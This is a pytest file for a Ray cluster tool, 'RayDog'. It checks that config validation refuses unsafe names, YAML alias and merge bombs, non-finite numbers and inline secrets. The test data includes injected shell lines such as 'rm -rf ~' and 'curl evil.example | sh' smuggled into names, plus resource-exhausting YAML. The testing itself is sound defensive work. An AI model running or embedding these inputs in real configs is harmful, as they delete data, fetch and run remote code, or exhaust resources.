"""Input a cluster must not trust: names that reach paths and scripts, secrets inline in what Ray
caches and prints, options with no usable value. Each is refused where the config is read, with
an error naming the key, from `raydog validate` and from Ray's own `ray up` path."""

from __future__ import annotations

import math
import os
import stat
from pathlib import Path
from typing import Any

import pytest
import yaml

from raydog_core import ConfigError, validation
from raydog_core import config as raydog_config
from tests.commands import ray_up, raydog, write_config
from tests.conftest import memory_cluster_config

# --- names ----------------------------------------------------------------------------------

BAD_NAMES = ["../../x", "/etc/raydog", "a\nrm -rf ~", "..", "-rf", "sp ace", "x" * 101]


@pytest.mark.parametrize("name", BAD_NAMES)
def test_a_cluster_name_that_would_escape_its_folder_or_script_is_refused(
    tmp_path: Path, raydog_home: Path, name: str
) -> None:
    path = write_config(tmp_path, memory_cluster_config(name))
    result = raydog("validate", str(path))
    assert result.returncode == 2
    assert result.stderr.startswith("error: cluster_name: "), result.stderr
    assert "cannot be used as a name: use letters, digits" in result.stderr
    with pytest.raises(ConfigError) as raised:
        ray_up(path)
    assert raised.value.key_path == "cluster_name"
    assert not (raydog_home / "clusters").exists() or not any((raydog_home / "clusters").iterdir())
    assert not Path("/etc/raydog").exists() and not (raydog_home.parent / "x").exists()


def test_a_node_type_name_with_a_newline_never_reaches_the_setup_script(tmp_path: Path) -> None:
    config = memory_cluster_config()
    types = config["available_node_types"]
    types["cpu\ncurl evil.example | sh"] = types.pop("cpu")
    path = write_config(tmp_path, config)
    result = raydog("node-setup", str(path), "--node-type", "head")
    assert result.returncode == 2
    assert result.stdout == ""
    assert "error: available_node_types.cpu\\ncurl evil.example | sh: " in result.stderr
    assert "cannot be used as a name" in result.stderr


def test_usual_names_are_accepted(tmp_path: Path) -> None:
    config = memory_cluster_config("my_cluster-2.prod")
    types = config["available_node_types"]
    types["ray.worker.gpu-2_x"] = types.pop("cpu")
    result = raydog("validate", str(write_config(tmp_path, config)))
    assert result.returncode == 0, result.stderr


# --- shapes no reader survives: deep, expanding, unencodable, out of range ----------------------


def _alias_bomb(levels: int = 9, width: int = 10) -> str:
    """A few hundred bytes of YAML whose aliases expand to ``width ** levels`` values."""
    parts = ['&l0 ["lol"]']
    for level in range(1, levels):
        parts.append(f"&l{level} [{', '.join([f'*l{level - 1}'] * width)}]")
    return f"[{', '.join(parts)}]"


def _merge_bomb(levels: int = 9, width: int = 9) -> str:
    """The same with merge keys (``<<``), which PyYAML copies as it builds the mapping."""
    parts = ["&m0 {k: 1}"]
    for level in range(1, levels):
        parts.append(f"&m{level} {{<<: [{', '.join([f'*m{level - 1}'] * width)}], k{level}: 1}}")
    return f"[{', '.join(parts)}]"


HOSTILE_YAML = {
    "500 deep": "[" * 500 + "]" * 500,
    "alias bomb": _alias_bomb(),
    "merge bomb": _merge_bomb(),
    "self alias": "&loop [*loop]",
    "400 digits": "9" * 400,
    "1e308": "1.0e+308",
    "5000 digits": "9" * 5000,
}


@pytest.mark.parametrize("value", HOSTILE_YAML.values(), ids=HOSTILE_YAML.keys())
def test_yaml_that_no_reader_survives_is_a_config_error(tmp_path: Path, value: str) -> None:
    """Each shape once ended `raydog validate` in a traceback (RecursionError, OverflowError,
    UnicodeEncodeError) or never ended (the alias bomb grows tenfold per level)."""
    config = memory_cluster_config()
    config["provider"]["compute"] = {"type": "memory", "launch_delay": "VALUE"}
    path = tmp_path / "cluster.yaml"
    path.write_text(yaml.safe_dump(config).replace("VALUE", value))
    result = raydog("validate", str(path))
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    assert result.stderr.startswith("error: "), result.stderr
    assert len(result.stderr.splitlines()) < 20, result.stderr


def test_the_bombs_are_a_few_hundred_bytes() -> None:
    assert 300 < len(_alias_bomb()) < 600 and 300 < len(_merge_bomb()) < 600


HOSTILE_VALUES: dict[str, Any] = {
    "500 deep": [],
    "400 digits": int("9" * 400),
    "1e308": 1.0e308,
    "nan": math.nan,
}
nested: list[Any] = HOSTILE_VALUES["500 deep"]
for _ in range(500):
    nested.append([])
    nested = nested[0]


@pytest.mark.parametrize("value", HOSTILE_VALUES.values(), ids=HOSTILE_VALUES.keys())
def test_a_config_ray_loaded_itself_is_checked_the_same(value: Any) -> None:
    """`ray up` loads the YAML itself and hands RayDog the result (bootstrap_config)."""
    config = memory_cluster_config()
    config["provider"]["compute"] = {"type": "memory", "launch_delay": value}
    with pytest.raises(ConfigError) as raised:
        raydog_config.bootstrap(config)
    assert raised.value.key_path.startswith("provider.compute.launch_delay"), raised.value
    with pytest.raises(ConfigError):
        validation.validate(config)


def test_a_lone_surrogate_is_a_config_error_not_a_unicode_error(tmp_path: Path) -> None:
    """YAML's "\\ud800" escape makes text UTF-8 cannot hold: a folder name, a script, a request."""
    path = tmp_path / "cluster.yaml"
    path.write_text(
        yaml.safe_dump(memory_cluster_config("SURROGATE")).replace("SURROGATE", '"demo\\ud800"')
    )
    result = raydog("validate", str(path))
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("error: cluster_name: holds a lone surrogate"), result.stderr
    with pytest.raises(ConfigError) as raised:
        raydog_config.bootstrap(memory_cluster_config("demo\ud800"))
    assert raised.value.key_path == "cluster_name"


# --- secrets by reference -------------------------------------------------------------------

SECRET = "s3cr3t-Pa55word"


@pytest.mark.parametrize(
    ("key", "value", "named"),
    [
        (
            "tag_store",
            {"type": "valkey", "url": f"redis://default:{SECRET}@127.0.0.1:6379/0"},
            "provider.tag_store.url",
        ),
        (
            "tag_store",
            {"type": "valkey", "url": f"redis://127.0.0.1:6379/0?password={SECRET}"},
            "provider.tag_store.url",
        ),
        (
            "tag_store",
            {"type": "valkey", "url": f"redis://127.0.0.1:6379/0?db=0&pass%77ord={SECRET}"},
            "provider.tag_store.url",
        ),
        ("compute", {"type": "memory", "api_token": SECRET}, "provider.compute.api_token"),
        (
            "ray_worker_node_task_script",
            f"pip install --index-url https://me:{SECRET}@pypi.example/simple pkg\n",
            "provider.ray_worker_node_task_script",
        ),
    ],
    ids=[
        "tag store url",
        "password in a url's query",
        "percent-encoded name in a query",
        "secret-named option",
        "url in a script",
    ],
)
def test_a_secret_inline_is_refused_with_what_to_write_instead(
    tmp_path: Path, key: str, value: Any, named: str
) -> None:
    config = memory_cluster_config()
    config["provider"][key] = value
    path = write_config(tmp_path, config)
    result = raydog("validate", str(path))
    assert result.returncode == 2
    assert result.stderr.startswith(f"error: {named}: "), result.stderr
    assert "/tmp/ray-config-" in result.stderr and "by reference" in result.stderr
    assert SECRET not in result.stderr
    with pytest.raises(ConfigError) as raised:
        ray_up(path)
    assert raised.value.key_path == named


@pytest.mark.parametrize(
    "url",
    ["redis://evil.example\\@127.0.0.1:6379/0", "redis://127.0.0.1:6379/0 ", "redis://h\t:1/0"],
)
def test_a_store_url_parsers_could_read_differently_is_refused(tmp_path: Path, url: str) -> None:
    config = memory_cluster_config()
    config["provider"]["tag_store"] = {"type": "valkey", "url": url}
    result = raydog("validate", str(write_config(tmp_path, config)))
    assert result.returncode == 2
    assert result.stderr.startswith("error: provider.tag_store.url: holds a backslash"), (
        result.stderr
    )


def _with_known_secret(config: dict[str, Any], where: str) -> dict[str, Any]:
    """``config`` with SECRET written out at ``where``, as a user might to get a job going."""
    command = f"redis-cli -a {SECRET} ping"
    if where == "setup_commands":
        config["setup_commands"] = ["pip install numpy", command]
    elif where == "docker.run_options":
        config["docker"] = {"image": "rayproject/ray", "run_options": [f"-e PW={SECRET}"]}
    else:
        config["provider"][where] = f"#!/bin/bash\n{command}\n"
    return config


KNOWN_PLACES = {
    "setup_commands": "setup_commands[1]",
    "docker.run_options": "docker.run_options[0]",
    "ray_worker_node_task_script": "provider.ray_worker_node_task_script",
}


@pytest.mark.parametrize("where", KNOWN_PLACES)
def test_the_tag_stores_own_password_written_out_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    monkeypatch.setenv("RAYDOG_TEST_TAG_STORE_PASSWORD", SECRET)
    config = memory_cluster_config()
    config["provider"]["tag_store"] = {
        "type": "valkey",
        "url": "redis://127.0.0.1:6379/0",
        "password_env": "RAYDOG_TEST_TAG_STORE_PASSWORD",
    }
    result = raydog("validate", str(write_config(tmp_path, _with_known_secret(config, where))))
    assert result.returncode == 2
    assert f"error: {KNOWN_PLACES[where]}: holds the tag store's password" in result.stderr
    assert SECRET not in result.stderr


@pytest.mark.parametrize("where", KNOWN_PLACES)
def test_the_yellowdog_api_key_secret_written_out_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    monkeypatch.setenv("YD_API_KEY_ID", "key-id")
    monkeypatch.setenv("YD_API_KEY_SECRET", SECRET)
    config = memory_cluster_config()
    config["provider"]["compute"] = {"type": "yellowdog", "cluster_namespace": "raydog-test"}
    for spec in config["available_node_types"].values():
        spec["node_config"] = {"compute_requirement_template": "yd-demo/template"}
    result = raydog("validate", str(write_config(tmp_path, _with_known_secret(config, where))))
    assert result.returncode == 2
    assert (
        f"error: {KNOWN_PLACES[where]}: holds the YellowDog API key secret (the environment)"
        in result.stderr
    ), result.stderr
    assert SECRET not in result.stderr


def test_the_url_advice_names_the_tag_stores_option(tmp_path: Path) -> None:
    config = memory_cluster_config()
    config["provider"]["tag_store"] = {"type": "redis", "url": f"rediss://:{SECRET}@h:6380"}
    result = raydog("validate", str(write_config(tmp_path, config)))
    assert "Write the URL without the password" in result.stderr
    assert "password_env: NAME" in result.stderr


def test_references_are_accepted(tmp_path: Path) -> None:
    config = memory_cluster_config()
    config["provider"]["tag_store"] = {
        "type": "valkey",
        "url": "redis://default@127.0.0.1:6379/0",
        "password_env": "RAYDOG_TEST_TAG_STORE_PASSWORD",
    }
    config["provider"]["ray_worker_node_task_script"] = (
        "pip install --index-url https://me:${PYPI_TOKEN}@pypi.example/simple pkg\n"
    )
    result = raydog("validate", str(write_config(tmp_path, config)))
    assert result.returncode == 0, result.stderr


@pytest.mark.servers
def test_a_url_password_by_reference_reaches_the_server_and_never_rays_config_cache(
    tmp_path: Path, raydog_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real server with a password; the config Ray caches holds only the variable's name,
    and the head (without the variable) finds the password in the cluster's 0600 folder."""
    from ray.autoscaler._private.commands import _bootstrap_config
    from ray.autoscaler._private.providers import _get_node_provider

    from raydog_backends.keyvalue.store import URL_PASSWORD_SECRET
    from raydog_core import state
    from raydog_core.interfaces import Endpoint
    from tests.servers import KeyValueServer, valkey_server_binary

    server = KeyValueServer(valkey_server_binary(), tmp_path / "server", SECRET).start()
    try:
        config = memory_cluster_config()
        config["provider"]["tag_store"] = {
            "type": "valkey",
            "url": f"redis://127.0.0.1:{server.port}/0",
            "password_env": "RAYDOG_TEST_TAG_STORE_PASSWORD",
        }
        monkeypatch.setenv("RAYDOG_TEST_TAG_STORE_PASSWORD", SECRET)
        bootstrapped = _bootstrap_config(config, no_config_cache=False)
        cached = [
            p
            for p in Path("/tmp").glob("ray-config-*")
            if bootstrapped["cluster_name"] in text_if_there(p)
        ]
        assert cached and all(SECRET not in p.read_text() for p in cached)
        for p in cached:
            p.unlink()
        provider = _get_node_provider(
            bootstrapped["provider"], bootstrapped["cluster_name"], use_cache=False
        )
        provider.non_terminated_nodes({})
        provider.set_node_tags("n1", {"a": "1"})
        provider.close()
        saved = state.secret_path(config["cluster_name"], URL_PASSWORD_SECRET)
        assert stat.S_IMODE(saved.stat().st_mode) == 0o600

        monkeypatch.delenv("RAYDOG_TEST_TAG_STORE_PASSWORD")  # the head's environment
        from raydog_backends.keyvalue import ValkeyTagStore

        head = ValkeyTagStore(
            config["cluster_name"],
            url=f"redis://127.0.0.1:{server.port}/0",
            password_env="RAYDOG_TEST_TAG_STORE_PASSWORD",
        )
        head.connect(None)
        assert head.load_all() == {"n1": {"a": "1"}}
        head.close()
        saved.unlink()
        with pytest.raises(ConfigError) as raised:
            head.connect(Endpoint("127.0.0.1", server.port))
        assert raised.value.key_path == "provider.tag_store.password_env"
        assert "RAYDOG_TEST_TAG_STORE_PASSWORD is not set" in str(raised.value)
    finally:
        server.stop()
    assert os.environ.get("RAYDOG_TEST_TAG_STORE_PASSWORD") is None


# --- small ones -----------------------------------------------------------------------------


@pytest.mark.parametrize("value", [float("inf"), float("nan")], ids=["inf", "nan"])
def test_an_infinite_or_nan_number_is_refused(tmp_path: Path, value: float) -> None:
    config = memory_cluster_config()
    config["provider"]["compute"] = {"type": "local", "grace_seconds": value}
    path = write_config(tmp_path, config)  # YAML's .inf / .nan
    assert (".inf" if value > 0 else ".nan") in path.read_text()
    result = raydog("validate", str(path))
    assert result.returncode == 2
    assert result.stderr.startswith("error: provider.compute.grace_seconds: expected a number"), (
        result.stderr
    )


def test_the_tag_server_port_given_twice_names_the_flat_key(tmp_path: Path) -> None:
    config = memory_cluster_config()
    config["provider"]["tag_store"] = {"type": "valkey", "port": 17000}
    config["provider"]["head_node_tag_server_port"] = 17001
    result = raydog("validate", str(write_config(tmp_path, config)))
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "error: provider.head_node_tag_server_port: also given as provider.tag_store.port: "
        "keep one of the two"
    )


def text_if_there(path: Path) -> str:
    """A file's text; empty if another process (Ray, another test) removed it meanwhile."""
    try:
        return path.read_text()
    except FileNotFoundError:
        return ""
